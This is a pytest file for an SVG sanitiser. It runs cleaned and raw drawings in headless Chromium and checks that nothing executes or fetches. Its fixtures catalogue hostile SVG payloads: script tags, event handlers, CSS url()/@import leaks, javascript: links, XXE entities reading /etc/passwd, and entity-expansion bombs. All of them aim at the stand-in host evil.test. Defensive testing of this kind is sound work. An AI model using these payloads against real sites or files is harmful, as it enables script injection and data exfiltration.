"""Cleaned drawings: hostile parts are gone in a real browser, the rest draws as before."""

from __future__ import annotations

import base64
import io
from collections.abc import Iterator, Mapping
from contextlib import suppress

import pytest
from browser_support import ARGUMENTS, need_chromium
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image, ImageChops
from playwright.sync_api import Error, Page, Route, sync_playwright

from quizgen.media.css import properties_of, rules_of
from quizgen.media.svg import MAX_ELEMENTS, SvgError, clean_svg

HEAD = (
    '<svg xmlns="http://www.w3.org/2000/svg" '
    'xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 60 40"'
    ' width="60" height="40">'
)
OUT = "http://evil.test/"
RUN = "fetch('http://evil.test/ran')"
LOAD = base64.b64encode(
    f'{HEAD}<script>{RUN}</script><image href="{OUT}x"/></svg>'.encode()
).decode()
# First the drawings that a browser runs or fetches from as stored, then the others.
RUNNING = {
    "script": f"<script>{RUN}</script>",
    "script-cdata": f"<script><![CDATA[{RUN}]]></script>",
    "script-href": f'<script href="{OUT}a.js"/>',
    "script-xlink": f'<script xlink:href="{OUT}a.js"/>',
    "script-data": f'<script href="data:text/javascript,{RUN}"/>',
    "script-prefixed": f'<s:script xmlns:s="http://www.w3.org/2000/svg">{RUN}</s:script>',
    "script-html": f'<h:script xmlns:h="http://www.w3.org/1999/xhtml">{RUN}</h:script>',
    "script-in-defs": f"<defs><g><script>{RUN}</script></g></defs>",
    "script-in-foreign": f'<x:y xmlns:x="urn:x"><script>{RUN}</script></x:y>',
    "script-in-title": f"<title><script>{RUN}</script></title>",
    "onload-inside": f'<svg onload="{RUN}"/>',
    "onerror": f'<image href="{OUT}none.png" onerror="{RUN}"/>',
    "onbegin": f'<animate attributeName="x" dur="1s" onbegin="{RUN}"/>',
    "foreign-object": (
        '<foreignObject width="60" height="40"><body xmlns="http://www.w3.org/1999/xhtml">'
        f'<img src="{OUT}i" onerror="{RUN}"/></body></foreignObject>'
    ),
    "foreign-iframe": (
        '<foreignObject width="60" height="40"><iframe xmlns="http://www.w3.org/1999/xhtml"'
        f' src="{OUT}frame"/></foreignObject>'
    ),
    "html-img": f'<img xmlns="http://www.w3.org/1999/xhtml" src="{OUT}i"/>',
    "html-video": f'<video xmlns="http://www.w3.org/1999/xhtml" src="{OUT}v" autoplay="autoplay"/>',
    "html-link": f'<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="{OUT}s.css"/>',
    "html-meta": (
        f'<meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url={OUT}"/>'
    ),
    "image-http": f'<image href="{OUT}i.png" width="60" height="40"/>',
    "image-xlink": f'<image xlink:href="{OUT}i.png" width="60" height="40"/>',
    "image-relative": '<image href="//evil.test/i.png" width="60" height="40"/>',
    "image-set-later": (
        f'<image width="6" height="6"><set attributeName="href" to="{OUT}i.png"/></image>'
    ),
    "style-import": f'<style>@import url("{OUT}a.css");</style>',
    "style-import-text": f'<style>@import "{OUT}a.css";</style>',
    "style-font": (
        f"<style>@font-face{{font-family:f;src:url({OUT}f)}}</style>"
        '<text y="9" font-family="f">a</text>'
    ),
    "style-background": f"<style>svg{{background:url({OUT}b)}}</style>",
    "style-escaped": f"<style>svg{{background:u\\72l({OUT}b)}}</style>",
    "style-image-set": f"<style>svg{{background:image-set('{OUT}b' 1x)}}</style>",
    "style-commented": f"<style>/**/svg{{background:/**/url({OUT}b)}}</style>",
    "style-media": f"<style>@media all{{svg{{background:url({OUT}b)}}}}</style>",
    "style-cdata": f"<style><![CDATA[svg{{background:url({OUT}b)}}]]></style>",
    "style-mask-attribute": f'<rect width="9" height="9" style="mask-image:url({OUT}m)"/>',
    "style-html": (
        f'<style xmlns="http://www.w3.org/1999/xhtml">svg{{background:url({OUT}b)}}</style>'
    ),
    "fe-image": (
        f'<filter id="f"><feImage href="{OUT}fe.png"/></filter>'
        '<rect width="9" height="9" filter="url(#f)"/>'
    ),
}
IDLE = {
    "link-script": f'<a href="javascript:{RUN}"><rect width="60" height="40"/></a>',
    "link-animated": (
        '<a id="a"><rect width="60" height="40"/></a>'
        f'<set href="#a" attributeName="href" to="javascript:{RUN}"/>'
    ),
    "use-http": f'<use href="{OUT}u.svg#a"/>',
    "use-data": f'<use href="data:image/svg+xml;base64,{LOAD}#a"/>',
    "image-svg": f'<image href="data:image/svg+xml;base64,{LOAD}" width="60" height="40"/>',
    "image-file": '<image href="file:///etc/passwd" width="60" height="40"/>',
    "fill-http": f'<rect width="60" height="40" fill="url({OUT}p.svg#p)"/>',
    "handler": f'<discard onclick="{RUN}"/>',
    "xml-base": f'<g xml:base="{OUT}"><image href="i.png"/></g>',
}
ROOTS = {
    "onload": HEAD.replace("<svg", f'<svg onload="{RUN}"') + "</svg>",
    "stylesheet": f'<?xml-stylesheet href="{OUT}s.css" type="text/css"?>{HEAD}</svg>',
    "doctype": f'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "{OUT}svg11.dtd">{HEAD}</svg>',
    "background": HEAD.replace("<svg", f'<svg style="background:url({OUT}b)"') + "</svg>",
}


def svg(inner: str) -> bytes:
    return f"{HEAD}{inner}</svg>".encode()


@pytest.fixture(scope="module")
def page() -> Iterator[Page]:
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=need_chromium(), args=ARGUMENTS)
        yield browser.new_page(viewport={"width": 120, "height": 80})
        browser.close()


def fetched(page: Page, drawings: Mapping[str, bytes]) -> list[str]:
    """Return a browser's requests when it opens each drawing in a frame and clicks its links."""
    asked: list[str] = []

    def answer(route: Route) -> None:
        host, _, name = route.request.url.partition("://")[2].partition("/")
        if host != "deck.test":
            asked.append(route.request.url)
            route.abort()
        elif name in drawings:
            route.fulfill(body=drawings[name], content_type="image/svg+xml")
        else:
            frames = "".join(f'<iframe src="/{name}"></iframe>' for name in drawings)
            route.fulfill(body=f"<!doctype html>{frames}", content_type="text/html")

    page.route("**/*", answer)
    page.goto("http://deck.test/")
    for frame in page.frames[1:]:
        with suppress(Error):
            frame.evaluate(
                "document.querySelectorAll('a').forEach(a => "
                "a.dispatchEvent(new MouseEvent('click')))"
            )
    # By the second time it has been drawn, a page has made its requests.
    page.evaluate(
        "() => new Promise(done => requestAnimationFrame(() => requestAnimationFrame(done)))"
    )
    page.wait_for_timeout(500)
    return asked


def hostile() -> dict[str, bytes]:
    """Return the hostile drawings by name. Each fetches an address that identifies it."""
    kept = '<rect id="kept" width="5" height="5"/>'
    whole = ROOTS | {name: f"{HEAD}{inner}{kept}</svg>" for name, inner in (RUNNING | IDLE).items()}
    return {
        name: text.replace("evil.test/", f"evil.test/{name}/").encode()
        for name, text in whole.items()
    }


def test_hostile_drawings_run_and_fetch_nothing(page: Page) -> None:
    clean = {name: clean_svg(drawing).data for name, drawing in hostile().items()}
    assert len(clean) >= 30
    assert fetched(page, clean) == []
    frames = {frame.url.rpartition("/")[2]: frame for frame in page.frames[1:]}
    assert frames.keys() == clean.keys(), "no frame went elsewhere"
    for name, frame in frames.items():
        assert frame.evaluate("document.documentElement.nodeName") == "svg"
        assert name in ROOTS or frame.evaluate("document.getElementById('kept') !== null"), name


def test_the_browser_would_run_and_fetch_them(page: Page) -> None:
    """Without cleaning, the drawings named as running here do run: the test above can fail."""
    asked = fetched(page, hostile())
    assert {
        name for name in RUNNING if not any(f"evil.test/{name}/" in url for url in asked)
    } == set()


@pytest.mark.parametrize("name", hostile())
def test_no_address_is_left(name: str) -> None:
    clean = clean_svg(hostile()[name]).data
    assert b"evil" not in clean
    assert b"passwd" not in clean
    assert clean_svg(clean).data == clean, "what is clean stays as it is"


def test_what_was_taken_out_is_told() -> None:
    removed = clean_svg(
        svg(f'<script>{RUN}</script><rect onclick="x" width="1" height="1"/><metadata/>')
    ).removed
    assert removed == ("script", "onclick")
    assert (
        clean_svg(svg('<path d="M0 0h9" style="fill:#123;-inkscape-stroke:none"/>')).removed == ()
    )


def test_filters_are_left_out_and_what_they_blur_is_drawn() -> None:
    clean = clean_svg(
        svg(
            '<filter id="s"><feGaussianBlur stdDeviation="2"/></filter>'
            "<style>.a{filter:url(#s)}</style>"
            '<rect class="a" filter="url(#s)" style="fill:red;'
            'filter:url(#s)" width="30" height="20"/>'
        )
    )
    assert b"filter" not in clean.data
    assert b'<rect class="a" style="fill:red" width="30" height="20"/>' in clean.data
    assert "filter" in clean.removed


BENIGN = {
    "shapes": (
        '<rect width="30" height="20" fill="#c33" stroke="navy" stroke-width="2"/>'
        '<circle cx="40" cy="20" r="12"'
        ' style="fill:rgb(10,120,80);opacity:.8"/>'
        '<path d="M5 35 C 20 5, 40 5, 55 35" fill="none" stroke="#000"/>'
    ),
    "gradient": (
        '<defs><linearGradient id="a"><stop offset="0" stop-color="#f00"/>'
        '<stop offset="1" stop-color="#00f"/>'
        '</linearGradient><linearGradient id="b" xlink:href="#a" x2="0" y2="1"/></defs>'
        '<rect width="60" height="40" fill="url(#b)"/>'
    ),
    "classes": (
        "<style>.st0{fill:#FFCD00;} .st1, .st2{stroke:#222;stroke-width:3}</style>"
        '<g class="st0"><rect width="60" height="20"/></g><line class="st1" x2="60" y2="40"/>'
    ),
    "use-and-clip": (
        '<defs><path id="star" d="M8 0l2 6h6l-5 4 2 6-5-4-5 4 2-6-5-4h6z"/>'
        '<clipPath id="c"><circle cx="30" cy="20"'
        ' r="15"/></clipPath></defs><g clip-path="url(#c)">'
        '<rect width="60" height="40" fill="teal"/>'
        '<use xlink:href="#star" x="22" y="12" fill="#fff"/></g>'
    ),
    "text": (
        '<text x="4" y="24" font-size="14" font-family="sans-serif">H<tspan '
        'dy="4" font-size="8">2</tspan>O</text>'
    ),
    "link": '<a href="https://example.org"><rect width="20" height="20" fill="purple"/></a>',
    "pattern": (
        '<pattern id="p" width="6" height="6" patternUnits="userSpaceOnUse">'
        '<circle cx="3" cy="3" r="2"/></pattern>'
        '<rect width="60" height="40" fill="url(#p)"/>'
    ),
    "embedded": '<image width="60" height="40" xlink:href="data:image/png;base64,PNG"/>',
    "entities": '<text x="2" y="20">a &amp; b &#60;</text>',
    "switch": (
        '<switch><foreignObject requiredExtensions="http://ns.adobe.com/" width="1" height="1"/>'
        '<g><rect width="50" height="30" fill="olive"/></g></switch>'
    ),
}


@pytest.mark.parametrize("name", BENIGN)
def test_a_drawing_looks_as_before(page: Page, name: str) -> None:
    picture = io.BytesIO()
    Image.new("RGB", (6, 4), "orange").save(picture, "PNG")
    drawing = svg(
        BENIGN[name].replace(
            "base64,PNG", "base64," + base64.b64encode(picture.getvalue()).decode()
        )
    )
    shots = [shot(page, data) for data in (drawing, clean_svg(drawing).data)]
    assert ImageChops.difference(*shots).getbbox() is None
    assert len(shots[0].getcolors(100_000)) > 1, "something is drawn"


def shot(page: Page, drawing: bytes) -> Image.Image:
    address = "data:image/svg+xml;base64," + base64.b64encode(drawing).decode()
    page.goto("about:blank")
    page.set_content(f'<img src="{address}">')
    page.wait_for_function("document.images[0].complete && document.images[0].naturalWidth")
    return Image.open(io.BytesIO(page.screenshot())).convert("RGB")


@pytest.mark.parametrize(
    ("size", "expected"),
    [
        ('viewBox="0 0 300 200"', (300, 200)),
        ('viewBox="0,0,300,200" width="600"', (600, 400)),
        ('width="2cm" height="1in"', (76, 96)),
        ('width="100%" height="100%" viewBox="0 0 30 20"', (30, 20)),
        ('height="40" viewBox="-5 -5 30 20"', (60, 40)),
    ],
)
def test_size(size: str, expected: tuple[int, int]) -> None:
    clean = clean_svg(
        f'<svg xmlns="http://www.w3.org/2000/svg" {size}><path d="M0 0"/></svg>'.encode()
    )
    assert (clean.width, clean.height) == expected


def copies(levels: int, each: int) -> str:
    parts = ['<g id="g0"><path d="M0 0"/></g>']
    for level in range(1, levels):
        uses = f'<use href="#g{level - 1}"/>' * each
        parts.append(f'<g id="g{level}">{uses}</g>')
    return "".join(parts)


def styled(levels: int) -> str:
    rules = "".join(f".c{n}{{fill:url(#p{n + 1})}}" for n in range(levels))
    patterns = (
        f'<pattern id="p{n}">{f"<path class={chr(34)}c{n}{chr(34)}/>" * 9}</pattern>'
        for n in range(levels)
    )
    return f'<style>{rules}</style>{"".join(patterns)}<rect class="c0"/>'


REFUSED = {
    "laughs": '<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]>'
    + HEAD
    + "<text>&b;</text></svg>",
    "external entity": '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    + HEAD
    + "<text>&x;</text></svg>",
    "parameter entity": f'<!DOCTYPE svg [<!ENTITY % x SYSTEM "{OUT}x"> %x;]>' + HEAD + "</svg>",
    "copies of copies": HEAD + copies(12, 10) + "</svg>",
    "a circle": HEAD + '<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g></svg>',
    "patterns by class": HEAD + styled(12) + "</svg>",
    "deep": HEAD + "<g>" * 500 + "</g>" * 500 + "</svg>",
    "deep and foreign": HEAD + "<x>" * 500 + "</x>" * 500 + "</svg>",
    "many": HEAD + "<g/>" * (MAX_ELEMENTS + 1) + "</svg>",
    "no size": '<svg xmlns="http://www.w3.org/2000/svg"/>',
    "no numbers": '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1e999 1e999"/>',
    "no drawing": '<html xmlns="http://www.w3.org/1999/xhtml"/>',
    "no namespace": '<svg viewBox="0 0 1 1"/>',
    "no XML": "<svg><p></svg>",
    "cut short": HEAD + "<g>",
    "encoding": '<?xml version="1.0" encoding="klingon"?>' + HEAD + "</svg>",
}


@pytest.mark.parametrize("name", REFUSED)
def test_refused(name: str) -> None:
    with pytest.raises(SvgError) as told:
        clean_svg(REFUSED[name].encode())
    assert told.value.message
    assert told.value.fix


def test_long_runs_end() -> None:
    """Cleaning takes time in proportion to the file; quadratic work would not end."""
    run = 100_000
    fillers = [
        "a",
        " ",
        "/*",
        "@;",
        "url(",
        "(",
        "1.",
        "#a{",
        "}",
        ":",
        ";",
        "\\",
        "1e1",
        "@{",
        "#",
        "=",
        ",",
    ]
    for filler in fillers:
        value = filler * run
        assert "url(" not in properties_of(f"fill:{value}")[0]
        assert not any("url(" in declared for _, declared in rules_of(f"a{{fill:{value}")[0])
        for attribute in ("width", "viewBox", "fill", "href", "class"):
            drawing = f'<svg xmlns="http://www.w3.org/2000/svg" {attribute}="{value}"><path/></svg>'
            with suppress(SvgError):
                assert b"url(" not in clean_svg(drawing.encode()).data


@settings(max_examples=150, derandomize=True, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [
                *"<>/\"'=#(){};:@\\ &",
                "svg",
                "g",
                "path",
                "style",
                "script",
                "onload",
                "href",
                "url(",
                "#a",
                "xlink:",
            ]
        ),
        max_size=40,
    ).map("".join)
)
def test_nothing_else_is_raised(inner: str) -> None:
    for data in (svg(inner), svg(f"<style>{inner}</style>"), svg(f"<g {inner}/>"), inner.encode()):
        try:
            clean = clean_svg(data).data
        except SvgError:
            continue
        assert b"<script" not in clean
        assert b"onload=" not in clean
        assert clean_svg(clean).data == clean
